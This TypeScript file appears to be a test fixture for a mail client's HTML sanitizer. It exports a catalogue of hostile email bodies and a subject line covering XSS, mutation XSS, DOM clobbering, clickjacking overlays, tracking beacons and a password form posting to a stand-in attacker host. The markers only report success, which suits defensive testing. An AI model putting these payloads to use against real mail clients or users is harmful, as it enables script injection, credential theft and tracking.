/*
 * Mail that attacks whoever reads it. `CANARY` stands for a server of the attacker's; whatever runs says so by `pwned()`, or asks the canary.
 */
const CANARY = 'http://canary.invalid';
const RUN = `(parent.pwned||top.pwned||Function)('x')`;

const BODIES: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script><script src="${CANARY}/a.js"></script><SCRIPT\n>${RUN}</SCRIPT\n>`,
  handlers: `<img src=x onerror="${RUN}"><body onload="${RUN}"><div onmouseover="${RUN}" style="width:100%;height:300px">x</div><details open ontoggle="${RUN}">x</details><input autofocus onfocus="${RUN}"><marquee onstart="${RUN}">x</marquee>`,
  svg: `<svg onload="${RUN}"><script>${RUN}</script><animate onbegin="${RUN}" attributeName=x dur=1s><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/><a xlink:href="javascript:${RUN}"><text>x</text></a><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject><image href="${CANARY}/svg"/><feImage href="${CANARY}/fe"/></svg>`,
  math: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math><math href="javascript:${RUN}">x</math>`,
  mxss: `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></svg><noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  template: `<template><img src=x onerror="${RUN}"></template><div><template shadowrootmode="open"><img src=x onerror="${RUN}"><script>${RUN}</script></template></div>`,
  refresh: `<meta http-equiv="refresh" content="0;url=${CANARY}/refresh"><meta http-equiv="Set-Cookie" content="a=b"><head><meta http-equiv=refresh content="0;url=javascript:${RUN}"></head>`,
  base: `<base href="${CANARY}/" target="_top"><a id="link" href="relative">x</a><img src="relative.png">`,
  forms: `<form action="${CANARY}/form" method="post" target="_top"><input name="password" type="password" autofocus><button formaction="javascript:${RUN}">Log in</button></form><form id=f action="javascript:${RUN}"></form><isindex form=f>`,
  frames: `<iframe src="${CANARY}/frame"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><object data="${CANARY}/object"></object><embed src="${CANARY}/embed"><frameset onload="${RUN}"><frame src="javascript:${RUN}"></frameset><portal src="${CANARY}/portal"></portal>`,
  urls: `<a id="link" href="javascript:${RUN}">a</a><a href=" &#1; java\tscript:${RUN}">b</a><a href="data:text/html,<script>${RUN}</script>">c</a><a href="vbscript:x">d</a><a href="blob:x">e</a><a href="file:///etc/passwd">f</a><img src="javascript:${RUN}"><img lowsrc="javascript:${RUN}">`,
  style: `<style>@import url("${CANARY}/import.css");@import "${CANARY}/import2.css";@font-face{font-family:x;src:url(${CANARY}/font)}body{background:url(${CANARY}/style-body);font-family:x}a[href^="h"]{background-image:url(${CANARY}/attribute)}</style><a href="https://x.test">x</a>`,
  inlineStyle: `<div style="background:url('${CANARY}/inline')">x</div><div style="background-image:image-set('${CANARY}/set' 1x);list-style:url(${CANARY}/list);cursor:url(${CANARY}/cursor),auto;content:url(${CANARY}/content)">x</div><div style="width:expression(${RUN});behavior:url(${CANARY}/htc);-moz-binding:url(${CANARY}/xbl)">x</div><div style="--a:url(${CANARY}/var);background:var(--a)">x</div>`,
  images: `<img src="${CANARY}/img"><img srcset="${CANARY}/srcset 1x"><picture><source srcset="${CANARY}/source"><img src=x></picture><table background="${CANARY}/table"><tr><td background="//canary.invalid/td">x</td></tr></table><video poster="${CANARY}/poster" src="${CANARY}/video" autoplay></video><audio src="${CANARY}/audio" autoplay></audio><input type=image src="${CANARY}/input"><link rel="stylesheet" href="${CANARY}/link"><link rel=prefetch href="${CANARY}/prefetch"><link rel="dns-prefetch" href="//canary.invalid">`,
  overlay: `<div style="position:fixed!important;top:-2000px;left:-2000px;width:9999px;height:9999px;z-index:2147483647;background:red" id="overlay"><a href="https://evil.test" style="position:fixed;inset:0">x</a></div><style>html,body{height:100000vh!important;min-height:150vh}</style>`,
  clobber: `<form name="documentElement"><input name="body"><img name="head"><img name="createElement"><input name="querySelector"></form><a id="app" name="defaultView"></a><div id="root"></div><img name="getElementById">`,
  popup: `<a id="link" href="https://evil.test/" target="_self" ping="${CANARY}/ping" download>x</a><a href="https://evil.test/" target="_top">y</a><a href="https://evil.test/" target="_parent" rel="opener">z</a>`,
  attributes: `<p popover id=p onbeforetoggle="${RUN}">x</p><button popovertarget=p>y</button><div is="x-y" tabindex=1 autofocus onfocus="${RUN}" contenteditable accesskey=x oncut="${RUN}">z</div><dialog open onclose="${RUN}">d</dialog><a href="#" onclick="${RUN}" id="link">q</a>`,
  declarations: `<!DOCTYPE html [<!ENTITY x "${RUN}">]><?xml-stylesheet href="${CANARY}/xsl"?><![CDATA[<script>${RUN}</script>]]><!--[if IE]><script>${RUN}</script><![endif]--><!--><script>${RUN}</script>-->`,
  noembed: `<noembed><img src="</noembed><img src=x onerror=${RUN}>"></noembed><xmp><img src=x></xmp><plaintext><img src=x onerror=${RUN}>`,
  nested: `${'<div>'.repeat(2000)}<img src=x onerror="${RUN}">${'</div>'.repeat(2000)}`,
  table: `<table width="100000" height="100000"><tr>${'<td width=5000>x</td>'.repeat(300)}</tr></table>`,
};

export interface HostileLetter {
  readonly name: string;
  readonly html: string;
}

/** @param canary where the attacker listens */
export function hostileLetters(canary: string): readonly HostileLetter[] {
  const host = new URL(canary).host;
  return Object.entries(BODIES).map(([name, html]) => ({ name, html: html.replaceAll(CANARY, canary).replaceAll('canary.invalid', host) }));
}

/** In what people see of a message without opening it. */
export const HOSTILE_SUBJECT = `"><img src=x onerror=pwned()>\u202E{{7*7}}<script>pwned()</script>`;
